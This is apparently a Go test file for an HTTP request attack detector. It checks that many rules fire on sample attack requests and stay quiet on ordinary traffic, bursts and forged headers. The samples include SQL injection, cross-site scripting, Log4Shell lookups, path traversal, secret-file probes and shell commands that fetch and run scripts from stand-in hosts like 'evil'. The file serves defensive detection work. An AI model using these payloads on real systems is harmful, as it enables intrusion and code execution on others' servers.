package audit

import (
	"fmt"
	"net/http"
	"net/netip"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

func testDetector(t testing.TB) *Detector {
	t.Helper()
	d, err := NewDetector(DetectorOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

var stranger = netip.MustParseAddr("203.0.113.9")

// request reads "POST 404 /target agent=…": method and status may be left out.
func request(text string) *Request {
	q := &Request{Time: time.Unix(1_700_000_000, 0), Address: stranger, Peer: stranger, Method: "GET", Status: 200, UserAgent: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"}
	text, agent, ok := strings.Cut(text, " agent=")
	if ok {
		q.UserAgent = agent
	}
	for _, method := range []string{"GET", "POST", "PUT", "HEAD", "TRACE", "CONNECT", "DELETE"} {
		if rest, ok := strings.CutPrefix(text, method+" "); ok {
			q.Method, text = method, rest
		}
	}
	if n, err := fmt.Sscanf(text, "%3d /", &q.Status); n == 1 && err != nil || n == 1 {
		text = text[4:]
	}
	q.Target = text
	return q
}

func namesOf(findings []Finding) string {
	var names []string
	for _, f := range findings {
		names = append(names, f.Rule.Name)
	}
	return strings.Join(names, " ")
}

// Attacks as they are sent, by the rule that has to be among those that they meet.
func TestAttacksAreFound(t *testing.T) {
	d := testDetector(t)
	for rule, attacks := range map[string][]string{
		"sql-injection": {
			`/item?id=1%27%20OR%20%271%27=%271`, `/item?id=1+UNION+ALL+SELECT+NULL,NULL,NULL--`, `/item?id=-1%20union%20select%201,2,user()`,
			`/item?id=1/**/UNION/**/SELECT/**/password/**/,2`, `/item?id=1;DROP%20TABLE%20users--`, `/item?id=1%20AND%20SLEEP(5)`,
			`/item?id=1'%20WAITFOR%20DELAY%20'0:0:5'--`, `/item?id=1%20and%201=1`, `/item?id=(select%20pg_sleep(5))`, `/item?q=admin'--`,
			`/item?id=extractvalue(1,concat(0x7e,version()))`, `/item?id=1%20order%20by%2010--`, `/item?u=%27%20or%201%3D1%20%23`,
			`/item?id=1%2527%2520or%25201%253D1`, `/item?id=1%20union%20select%20*%20from%20information_schema.tables`, `/p?x=1%22%20or%20%22a%22=%22a`,
			`/x?id=1%27%20and%20updatexml(1,concat(0x7e,(select%20user())),1)--+`, `/a/1'+or+'1'='1/b`, `/x agent=Mozilla/5.0' AND SLEEP(5)-- `,
			`/?id=1%20into%20outfile%20'/var/www/x.php'`,
		},
		"script-injection": {
			`/s?q=%3Cscript%3Ealert(1)%3C/script%3E`, `/s?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E`, `/s?q=%3Csvg/onload=alert(1)%3E`,
			`/s?u=javascript:alert(document.cookie)`, `/s?q=%22%20onmouseover=%22alert(1)`, `/s?q=%253Cscript%253Ealert(1)`, `/s?q=<iframe src=//evil>`,
			`/%3Cscript%3Eprompt(1)%3C%2Fscript%3E`, `/s?q=<details open ontoggle=alert(1)>`,
		},
		"command-injection": {
			`/ping?host=127.0.0.1;cat%20/etc/passwd`, `/ping?host=1|id`, `/ping?host=$(whoami)`, "/ping?host=%60id%60", `/x?cmd=whoami`, `/x.php?exec=uname%20-a`,
			`/x?a=1%0Aid`, `/x?f=;wget%20http://evil/x.sh`, `/x?f=a;cat${IFS}/etc/hosts`, `/x?a=%26%26%20curl%20http://evil`, `/cgi-bin/x.sh?/bin/sh`,
			`/shell?cd+/tmp;rm+-rf+*;wget+evil/jaws;sh+/tmp/jaws`, `/x?c=powershell%20-enc%20AAAA`, `/x?p=a%7Cnslookup%20evil.example`,
		},
		"code-injection": {
			`/?name={{7*7}}`, `/?name=${7*7}`, `/?x=%{(%23a=1)}`, `/?n={{config.items()}}`, `/?n={{''.__class__.__mro__}}`, `/?x=<%25=7*7%25>`, `/?a=phpinfo()`,
			`/?x=T(java.lang.Runtime).getRuntime().exec('id')`, `/i.php?a=system('id')`, `/index.php?s=/index/\think\app/invokefunction&function=call_user_func_array`,
			`/?class.module.classLoader.resources=x`, `/?x=%3C?php%20eval($_GET[1]);`, `/?p=__import__('os').system('id')`, `/ agent=<?php system($_GET['c']); ?>`,
		},
		"log4shell": {
			`/?x=${jndi:ldap://evil/a}`, `/ agent=${jndi:dns://evil}`, `/?x=%24%7Bjndi%3Armi%3A%2F%2Fevil%7D`, `/ agent=${${::-j}${::-n}${::-d}${::-i}:rmi://evil}`,
			`/ agent=${${env:BARFOO:-j}ndi:ldap://e}`, `/?x=${j${lower:n}di:ldap://e}`,
		},
		"shellshock":       {`/cgi-bin/status agent=() { :;}; /bin/bash -c "id"`, `/cgi-bin/x agent=() { ignored; }; echo vulnerable`},
		"nosql-injection":  {`/login?user[$ne]=x&pass[$ne]=y`, `/api?filter={"$where":"1"}`, `/u?name[$regex]=.*`},
		"ldap-injection":   {`/u?name=*)(uid=*))(|(uid=*`, `/u?q=admin)(&)`, `/u?q=x)(|(cn=*`},
		"php-wrapper":      {`/i.php?p=php://filter/convert.base64-encode/resource=index`, `/i.php?p=php://input`, `/i.php?-d+allow_url_include=on`, `/i.php?f=expect://id`, `/i.php?f=phar://x.jpg`},
		"remote-inclusion": {`/i.php?page=http://evil.example/shell.txt?`, `/i.php?base_path=http://evil.example/x`, `/i.php?GLOBALS[x]=ftp://evil.example/y`, `/i.php?inc=https://evil/r57.txt??`},
		"internal-request": {`/fetch?url=http://169.254.169.254/latest/meta-data/`, `/fetch?url=file:///c:/x`, `/p?u=gopher://127.0.0.1:6379/_`, `/img?src=http://localhost:8080/admin`, `/x?webhook=http://10.0.0.5/`, `/x?url=http://metadata.google.internal/`},
		"traversal":        {`/../../../../etc/hostname`, `/static/..%2f..%2f..%2fetc/x`, `/x?f=../../../../windows/win.ini`, `/x?file=..\..\..\boot.ini`, `/x?f=....//....//x`, `/a/..;/manager/html`, `/x?page=../wp-config.php`, `/x?f=..%252f..%252fetc%252fx`, `/x?f=..%c0%af..%c0%afetc`},
		"traversal-disguised": {`/a/%2e%2e/b`, `/a/..%2fb`, `/a/%2e./%2e./b`, `/a/..%5cb`, `/a/%252e%252e%252fb`, `/a/..%c0%afb`, `/a/%c0%ae%c0%ae/b`, `/cgi-bin/.%2e/.%2e/bin/sh`,
			`/a/.%%32%65/b`, `/a/%u002e%u002e/b`},
		"system-file":       {`/etc/passwd`, `/x?f=/etc/shadow`, `/x?f=/proc/self/environ`, `/x?f=c:\windows\win.ini`, `/WEB-INF/web.xml`, `/x?f=/var/log/apache2/access.log`},
		"null-byte":         {`/x.php%00.jpg`, `/a%2500b`},
		"secret-file":       {`404 /.env`, `/.env.production`, `404 /api/.env`, `404 /.git/config`, `/.git/HEAD`, `404 /.aws/credentials`, `404 /wp-config.php.bak`, `404 /.ssh/id_rsa`, `404 /id_rsa`, `404 /.DS_Store.env/.env`, `404 /phpinfo.php`, `404 /actuator/heapdump`},
		"project-file":      {`404 /docker-compose.yml`, `404 /.idea/workspace.xml`, `404 /composer.lock`},
		"backup-file":       {`404 /backup.zip`, `404 /database-2024.sql.gz`, `404 /www.tar.gz`, `404 /index.php.bak`, `404 /site-2024.zip`, `404 /config.php~`, `404 /.index.php.swp`},
		"hidden-file":       {`404 /.DS_Store`, `403 /.vscode/settings.json`, `404 /.config`, `404 /x/.wget-hsts`},
		"wordpress":         {`404 /wp-login.php`, `404 /blog/wp-admin/`, `POST 404 /xmlrpc.php`, `404 /2019/wp-includes/wlwmanifest.xml`},
		"admin-tool":        {`404 /phpmyadmin/`, `404 /pma/index.php`, `404 /phpMyAdmin-5.1/`, `404 /manager/html`, `404 /solr/`, `404 /cgi-bin/test.cgi`, `404 /owa/auth/logon.aspx`, `404 /administrator/index.php`, `404 /adminer-4.8.php`, `404 /server-status`},
		"web-shell":         {`404 /c99.php`, `404 /wp-content/alfa.php`, `404 /uploads/shell.php`, `404 /images/wso.php`},
		"device":            {`POST 404 /boaform/admin/formLogin`, `POST 404 /GponForm/diag_Form?images/`, `404 /HNAP1/`, `404 /setup.cgi?todo=syscmd`, `404 /goform/set_LimitClient_cfg`, `404 /picsdesc.xml`},
		"CVE-2017-9841":     {`POST 404 /lib/phpunit/src/Util/PHP/eval-stdin.php`},
		"exchange":          {`/autodiscover/autodiscover.json?@evil.com/owa/`, `404 /ecp/Current/exporttool/x`, `POST /ecp/y.js`},
		"vpn-gateway":       {`/vpn/../vpns/cfg/smb.conf`, `/+CSCOT+/translation-table?type=mst`, `/api/v1/totp/user-backup-code/../../license`},
		"product":           {`POST 404 /_ignition/execute-solution`, `/?s=captcha`, `/api/jsonws/invoke`, `/solr/admin/info/system?wt=json`, `/wls-wsat/CoordinatorPortType`, `/securityRealm/user/admin/search/index`, `/human2.aspx`},
		"fortinet":          {`PUT 404 /api/v2/cmdb/system/admin/admin`, `/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession`},
		"spring":            {`POST /actuator/gateway/routes/x`, `POST /functionRouter`},
		"attack-tool":       {`/ agent=sqlmap/1.7#stable (https://sqlmap.org)`, `/ agent=Mozilla/5.00 (Nikto/2.1.6)`, `/ agent=Mozilla/5.0 zgrab/0.x`, `/ agent=Nuclei - Open-source project (github.com/projectdiscovery/nuclei)`, `/ agent=masscan/1.3`, `/ agent=Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)`, `/ agent=WPScan v3.8`, `/ agent=gobuster/3.6`, `/ agent=Fuzz Faster U Fool v2.0`, `/ agent=feroxbuster/2.10`, `/ agent=ZmEu`, `/ agent=DirBuster-1.0-RC1`},
		"malware-agent":     {`/ agent=Hello, World`, `/ agent=libredtail-http`, `/ agent=Mozi.a`},
		"internet-survey":   {`/ agent=Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)`, `/ agent=Expanse, a Palo Alto Networks company, searches across the global IPv4 space`},
		"unusual-method":    {`TRACE /`},
		"open-proxy":        {`CONNECT example.com:443`, `http://example.com/judge.php`},
		"header-injection":  {`/x?u=a%0d%0aSet-Cookie:%20a=b`, `/%0d%0aLocation:%20http://evil`},
		"rewrite-confusion": {`404 /html/usr/share/doc/x.html%3f`},
	} {
		for _, a := range attacks {
			q := request(a)
			if got := strings.Fields(namesOf(d.Inspect(q))); !slices.Contains(got, rule) {
				t.Errorf("%s: got %q, want %s among them", a, got, rule)
			}
		}
	}
}

// Requests of people, of their programs and of ordinary robots, among them those
// that word lists take for attacks.
func TestOrdinaryRequestsAreQuiet(t *testing.T) {
	d := testDetector(t)
	for _, text := range []string{
		`/`, `/admin/`, `/admin/users?sort=name`, `302 /admin`, `403 /admin/settings`, `404 /favicon.ico`, `/config/edit`, `/api/config`, `/backup/list`, `/sql-tutorial`, `/blog/sql-injection-explained`,
		`/blog/union-select-explained`, `/docs/shell/cmd`, `/shop/dump-truck`, `/users/bot`, `/robots.txt`, `/.well-known/security.txt`, `404 /.well-known/acme-challenge/x`, `404 /.well-known/change-password`,
		`404 /apple-touch-icon.png`, `404 /sitemap.xml`, `404 /static/app.js.map`, `404 /vendor/jquery.min.js`, `404 /ads.txt`,
		`/search?q=O%27Brien`, `/search?q=rock+%27n%27+roll`, `/search?q=%22salt%22+and+%22pepper%22`, `/search?q=select+a+seat+from+the+map`, `/search?q=black+or+white`, `/search?q=drop+table+lamp`,
		`/search?q=1+%2B+1+%3D+2`, `/search?q=%3C3`, `/search?q=a+%3C+b+and+c+%3E+d`, `/search?q=C%23+or+F%23`, `/search?q=100%25`, `/search?q=fish+%26+chips`, `/search?q=cat;dog`, `/search?q=who+am+i`,
		`/search?q=AT%26T+or+Verizon`, `/search?q=it%27s+--+really`, `/search?q=how+to+sleep(better)`, `/search?q=don%27t+or+do`, `/search?q=price+between+5+and+10`, `/search?q=union+station`,
		`/search?q=ping+pong`, `/search?q=what+is+/etc`, `/search?q=%28foo%29+OR+%28bar%29`, `/search?q=user:bob+AND+status:open`, `/search?q=title%3D%22x%22`,
		`/item?id=5&ls=1&cat=shoes&type=new`, `/item?cat=5;id=7`, `/list?sort=-date&page=2&order=asc`, `/list?filter[status]=open&filter[$top]=5`, `/odata/Products?$filter=Price%20gt%2020&$top=5`,
		`/x?next=/orders/5`, `/x?next=https%3A%2F%2Fshop.example%2Forders%3Fid%3D5`, `/login?return_to=http://localhost:3000/callback`, `/oauth?redirect_uri=http://127.0.0.1:8765/cb&state=x`,
		`/share?url=https://example.com/a.html`, `/view?file=report-2024.pdf`, `/view.php?img=photo.jpg`, `/redirect.php?to=https://example.com/`, `/proxy?src=https://cdn.example.com/a.png`,
		`/a/../b`, `/docs/v1..v2`, `/compare/main...dev`, `/x?range=1..5`, `/x?f=..%2Fimages%2Fa.png`, `/wiki/C%2B%2B`, `/wiki/100%25_Wolf`, `/files/My%20Report%20(final).docx`,
		`/files/a%2Fb.txt`, `/%E6%97%A5%E6%9C%AC`, `/caf%C3%A9`, `/x?json=%7B%22a%22%3A1%7D`, `/x?q=%7B%7Bname%7D%7D`, `/x?tpl=Hello+%7B%7Buser%7D%7D`, `/x?price=$5&c={a}`, `/graphql?query={user(id:5){name}}`,
		`/calc?e=2*3`, `/x?regex=^a.*b$`, `/x?d=data:image/png;base64,AAAA`, `/x?color=%23ff0000`, `/x?t=12:30--13:30`, `/slug--with--dashes`, `/x?name=Robert&exec=director`, `/x?c=us&x=id1`,
		`/jobs/hydra-developer`, `/nessus-lake`, `/git/info`, `/repo.git/info/refs?service=git-upload-pack`, `/team/repo/blob/main/.travis.yml`, `404 /article/typo3-v12-released`, `404 /display/solr/notes`, `404 /img/{{item.image}}`, `/pods/x/exec?command=bash&tty=true`, `/environment`, `/env`, `404 /environment`, `/wp-login.php`, `/wp-admin/`, `POST /xmlrpc.php`, `/phpmyadmin/`,
		`401 /manager/html`, `401 /wp-admin/`, `500 /orders`, `/actuator/health`, `503 /actuator/health`, `404 /orders/99`, `403 /documents/5`, `404 /download/report.pdf`, `404 /old-page.html`, `404 /misc/Title.php.txt`,
		`POST 401 /api/session`, `POST 200 /login`, `POST /api/v1/token`, `PUT /api/users/5`, `DELETE /api/users/5`, `HEAD /`,
		`/ agent=Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)`, `/ agent=Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)`,
		`/ agent=Mozilla/5.0 (compatible; YandexBot/3.0)`, `/ agent=curl/8.5.0`, `/ agent=python-requests/2.31`, `/ agent=python-httpx/0.27.0`, `/ agent=Go-http-client/1.1`, `/ agent=Wget/1.21`, `/ agent=okhttp/4.9`,
		`/ agent=UptimeRobot/2.0`, `/ agent=Pingdom.com_bot_version_1.4`, `/ agent=Prometheus/2.45`, `/ agent=kube-probe/1.28`, `/ agent=ELB-HealthChecker/2.0`, `/ agent=Slackbot-LinkExpanding 1.0`,
		`/ agent=facebookexternalhit/1.1`, `/ agent=Baiduspider`, `/ agent=Sogou web spider/4.0`, `/ agent=AhrefsBot/7.0`, `/ agent=GPTBot/1.0`, `/ agent=Mozilla/5.0 (Windows; U; Windows NT 6.1; id; rv:1.9) Gecko`,
		`/ agent=Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119`, `/ agent=Apache-HttpClient/4.5 (Java/11)`, `/ agent=-`, `/ agent=`, `/ agent=Mozilla/5.0 (X11; CrOS) Chrome/120 (KHTML, like Gecko) Safari`,
		`/ agent=PostmanRuntime/7.36`, `/ agent=Cookiebot scanner`, `/ agent=W3C_Validator/1.3`, `/ agent=LinkChecker/10 hackathon`,
	} {
		if got := d.Inspect(request(text)); len(got) > 0 {
			t.Errorf("%s: got %s by %q, want nothing", text, namesOf(got), got[0].Matched)
		}
		d.visitors = newVisitors(10) // bursts have a test of their own
	}
}

func TestForgedHeaders(t *testing.T) {
	inside := netip.MustParseAddr("10.0.0.1")
	for _, test := range []struct {
		name, header, value string
		change              func(*Request)
		want                string
	}{
		{"loopback", "X-Forwarded-For", "127.0.0.1", nil, "forged-address"},
		{"loopback behind another", "X-Forwarded-For", "198.51.100.1, ::1", nil, "forged-address"},
		{"localhost by name", "X-Forwarded-For", "localhost", nil, "forged-address"},
		{"private", "X-Forwarded-For", "192.168.0.5", nil, "forged-address"},
		{"private, of a proxy that says so", "X-Forwarded-For", "192.168.0.5", func(q *Request) { q.Header.Set("Via", "1.1 office") }, ""},
		{"private in a header of nobody", "X-Originating-Ip", "10.1.2.3", func(q *Request) { q.Header.Set("Via", "1.1 office") }, "forged-address"},
		{"Forwarded", "Forwarded", `for="[::1]:80";proto=http`, nil, "forged-address"},
		{"public", "X-Forwarded-For", "198.51.100.1", nil, ""},
		{"unknown", "X-Forwarded-For", "unknown", nil, ""},
		{"of a trusted proxy", "X-Forwarded-For", "127.0.0.1", func(q *Request) { q.Trusted = true }, ""},
		{"from the inside", "X-Forwarded-For", "127.0.0.1", func(q *Request) { q.Peer = inside }, ""},
		{"from a log", "X-Forwarded-For", "127.0.0.1", func(q *Request) { q.Peer = netip.Addr{} }, ""},
		{"host", "X-Forwarded-Host", "evil.example", nil, "forged-host"},
		{"the same host", "X-Forwarded-Host", "SHOP.example", nil, ""},
		{"URL", "X-Original-Url", "/admin", nil, "forged-url"},
		{"override of a reading method", "X-Http-Method-Override", "DELETE", nil, "method-override"},
		{"override of POST", "X-Http-Method-Override", "PATCH", func(q *Request) { q.Method = "POST" }, ""},
		{"a host that is none", "Accept", "*/*", func(q *Request) { q.Host = `shop.example"><script>` }, "forged-host"},
		{"a host with a port", "Accept", "*/*", func(q *Request) { q.Host = "[2001:db8::1]:8443" }, ""},
		{"lookup in any header", "X-Api-Version", "${jndi:ldap://evil/a}", nil, "log4shell"},
	} {
		q := request("/orders")
		q.Host, q.Header = "shop.example", http.Header{test.header: {test.value}}
		if test.change != nil {
			test.change(q)
		}
		if got := namesOf(testDetector(t).Inspect(q)); got != test.want {
			t.Errorf("%s: got %q, want %q", test.name, got, test.want)
		}
	}
}

func TestBursts(t *testing.T) {
	for _, test := range []struct {
		name    string
		request func(i int) string
		n       int
		every   time.Duration
		want    string // the rule, or "" for none
	}{
		{"many missing pages", func(i int) string { return fmt.Sprintf("404 /page%d", i) }, 12, time.Second, "missing-burst"},
		{"a few missing pages", func(i int) string { return fmt.Sprintf("404 /page%d", i) }, 10, time.Second, ""},
		{"one missing page again and again", func(i int) string { return "404 /page" }, 500, time.Second, ""},
		{"missing pages over a day", func(i int) string { return fmt.Sprintf("404 /page%d", i) }, 500, time.Minute, ""},
		{"missing parts of a page", func(i int) string { return fmt.Sprintf("404 /img/%d.png", i) }, 100, time.Millisecond, ""},
		{"guessing at ways in", func(i int) string {
			return "404 /" + []string{"admin", "login", "panel", "backend", "cms", "console"}[i%6]
		}, 6, time.Second, "missing-burst"},
		{"refused to read", func(i int) string { return "401 /api/orders" }, 30, time.Second, "denied-burst"},
		{"refused to write", func(i int) string { return "POST 403 /api/orders" }, 6, time.Second, "denied-burst"},
		{"negotiated sign-in", func(i int) string { return []string{"401 /a", "/a"}[i%2] }, 200, time.Second, ""},
		{"guessing passwords", func(i int) string { return "POST 200 /login" }, 6, time.Second, "sign-in-burst"},
		{"guessing passwords, refused", func(i int) string { return "POST 401 /api/v1/auth" }, 6, time.Second, "sign-in-burst"},
		{"successful sign-ins", func(i int) string { return "POST 302 /login" }, 100, time.Second, ""},
		{"tokens for programs", func(i int) string { return "POST 200 /oauth/token" }, 100, time.Second, ""},
		{"somebody who forgot it", func(i int) string { return "POST 200 /login" }, 5, 5 * time.Second, ""},
		{"ordinary reading", func(i int) string { return fmt.Sprintf("/page%d", i) }, 1000, time.Millisecond, ""},
	} {
		d := testDetector(t)
		got := map[string]int{}
		at := time.Unix(1_700_000_000, 0)
		for i := range test.n {
			q := request(test.request(i))
			q.Time = at.Add(time.Duration(i) * test.every)
			for _, f := range d.Inspect(q) {
				if f.Rule.Category == CategoryBurst {
					got[f.Rule.Name]++
				}
			}
		}
		if (test.want == "") != (len(got) == 0) || test.want != "" && got[test.want] == 0 {
			t.Errorf("%s: got %v, want %q", test.name, got, test.want)
		}
	}
}

// One address does not fill the bucket of another; all of an IPv6 network do.
func TestBurstsAreByAddress(t *testing.T) {
	for _, test := range []struct {
		format string
		want   bool
	}{{"203.0.113.%d", false}, {"2001:db8::%d", true}, {"2001:db8:0:%d::1", false}, {"::ffff:203.0.113.%d", false}} {
		d := testDetector(t)
		found := false
		for i := range 50 {
			q := request(fmt.Sprintf("404 /page%d", i))
			q.Address = netip.MustParseAddr(fmt.Sprintf(test.format, i+1))
			found = found || len(d.Inspect(q)) > 0
		}
		if found != test.want {
			t.Errorf("%s: got %v, want %v", test.format, found, test.want)
		}
	}
}

func TestAMillionAddressesInBoundedMemory(t *testing.T) {
	n := 1_000_000
	if testing.Short() {
		n = 200_000
	}
	d := testDetector(t)
	heap := func() int64 {
		var m runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&m)
		return int64(m.HeapAlloc)
	}
	before := heap()
	q := request("404 /missing")
	for i := range n {
		q.Address = netip.AddrFrom4([4]byte{byte(i >> 24), byte(i >> 16), byte(i >> 8), byte(i)})
		d.Inspect(q)
	}
	grown := heap() - before
	if got := len(d.visitors.at); got != 100_000 {
		t.Errorf("remembered: got %d addresses, want 100000", got)
	}
	if grown > 32<<20 {
		t.Errorf("memory grew by %d MiB for %d addresses, want less than 32", grown>>20, n)
	}
	t.Logf("%d addresses: memory grew by %.1f MiB", n, float64(grown)/(1<<20))
	// Those seen last are known, those seen first are not.
	if d.visitors.get(netip.AddrFrom4([4]byte{0, 0, 0, 1}), false) != nil {
		t.Error("the first address is still remembered")
	}
	if d.visitors.get(q.Address, false) == nil {
		t.Error("the last address is forgotten")
	}
}

func TestDetectorIsSafeAndBoundedOnAnything(t *testing.T) {
	d := testDetector(t)
	var group sync.WaitGroup
	for w := range 4 {
		group.Go(func() {
			for i := range 200 {
				q := request(fmt.Sprintf("404 /p%d?id=1%%27+or+1=1", i))
				q.Address = netip.AddrFrom4([4]byte{10, byte(w), 0, byte(i)})
				if got := namesOf(d.Inspect(q)); !strings.Contains(got, "sql-injection") {
					t.Errorf("got %q, want sql-injection", got)
				}
			}
		})
	}
	group.Wait()
	for name, target := range map[string]string{
		"long": "/" + strings.Repeat("../", 100_000), "escapes": "/" + strings.Repeat("%25", 50_000), "quotes": "/?q=" + strings.Repeat("' or ", 20_000),
		"braces": "/?q=" + strings.Repeat("${", 50_000), "comments": "/?q=" + strings.Repeat("union/**/", 10_000), "nothing": "", "percent": "/%", "half": "/%2",
	} {
		start := time.Now()
		q := request("/")
		q.Target = target
		d.Inspect(q)
		if took := time.Since(start); took > time.Second {
			t.Errorf("%s: took %s", name, took)
		}
	}
}

func TestMatchedIsFitToBeShown(t *testing.T) {
	q := request("/x?q=%3Cscript%3E" + strings.Repeat("%0a%1b%5b2J", 3) + "%e2%80%ae" + strings.Repeat("a", 500))
	q.Target += "%3C/script%3E"
	for _, f := range testDetector(t).Inspect(q) {
		if len([]rune(f.Matched)) > maxMatched+1 || strings.ContainsFunc(f.Matched, func(c rune) bool { return c < ' ' || c == '\u202e' }) {
			t.Errorf("%s: got %q, want it short and without control characters", f.Rule.Name, f.Matched)
		}
	}
}

func TestIgnoredRules(t *testing.T) {
	d, err := NewDetector(DetectorOptions{Ignore: []string{"wordpress", "missing-burst"}})
	if err != nil {
		t.Fatal(err)
	}
	if got := d.Inspect(request("404 /wp-login.php")); len(got) > 0 {
		t.Errorf("got %s, want nothing", namesOf(got))
	}
	if _, err := NewDetector(DetectorOptions{Ignore: []string{"wordpres"}}); err == nil || !strings.Contains(err.Error(), "wordpres") {
		t.Errorf("an unknown rule: got %v, want an error that names it", err)
	}
}

// Every entry of the table is whole, and has needles that can be found.
func TestRulesAreWhole(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range Rules() {
		if r.Name == "" || r.Category == "" || r.Severity == "" || r.Title == "" || !strings.HasSuffix(r.Reason, ".") && !strings.HasSuffix(r.Reason, ").") {
			t.Errorf("the rule %q is not whole: %+v", r.Name, r)
		}
		if seen[r.Name] {
			t.Errorf("two rules are called %s", r.Name)
		}
		seen[r.Name] = true
		for _, l := range r.find {
			for _, n := range l.texts(0) {
				if n.text == "" || l.pattern == "" && strings.Contains(n.text, "*") || strings.ContainsFunc(n.text, func(c rune) bool { return 'A' <= c && c <= 'Z' }) {
					t.Errorf("%s: nothing is found by %q", r.Name, n.text)
				}
			}
		}
	}
}

func FuzzInspect(f *testing.F) {
	f.Add("/a?b=c", "Mozilla/5.0", 200)
	f.Add("/%%32%65/..%c0%af?q=${jndi:x}", "() { :;}; x", 404)
	d := testDetector(f)
	f.Fuzz(func(t *testing.T, target, agent string, status int) {
		q := request("/")
		q.Target, q.UserAgent, q.Status = target, agent, status
		for _, found := range d.Inspect(q) {
			if len([]rune(found.Matched)) > maxMatched+1 {
				t.Errorf("%s: %d letters", found.Rule.Name, len([]rune(found.Matched)))
			}
		}
	})
}

func BenchmarkInspect(b *testing.B) {
	d := testDetector(b)
	for name, text := range map[string]string{
		"ordinary": `/shop/orders/42?sort=name&page=2&q=blue+shoes`,
		"quotes":   `/search?q=%22salt%22+and+%22pepper%22+or+O%27Brien`,
		"long":     `/x?` + strings.Repeat("name=value&other=thing&", 80),
		"attack":   `404 /item?id=1%27%20OR%20%271%27=%271;cat%20/etc/passwd`,
		"missing":  `404 /nothing/here`,
	} {
		b.Run(name, func(b *testing.B) {
			q := request(text)
			b.ReportAllocs()
			times := make([]time.Duration, 1<<14)
			n := 0
			for b.Loop() {
				start := time.Now()
				d.Inspect(q)
				times[n%len(times)] = time.Since(start)
				n++
			}
			times = times[:min(n, len(times))]
			slices.Sort(times)
			b.ReportMetric(float64(times[len(times)*99/100].Nanoseconds()), "p99-ns")
		})
	}
}
